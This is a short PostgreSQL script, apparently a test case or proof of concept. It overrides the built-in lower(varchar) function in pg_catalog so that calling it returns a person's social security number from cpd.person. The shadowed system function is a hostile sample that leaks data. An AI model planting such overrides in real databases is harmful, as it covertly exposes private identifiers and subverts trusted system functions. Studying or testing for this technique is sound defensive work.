CREATE VIEW app.list AS SELECT 1 AS id;
CREATE FUNCTION pg_catalog.lower(varchar) RETURNS text LANGUAGE sql AS 'SELECT ssn FROM cpd.person WHERE id = 1';
SELECT lower('x'::varchar);
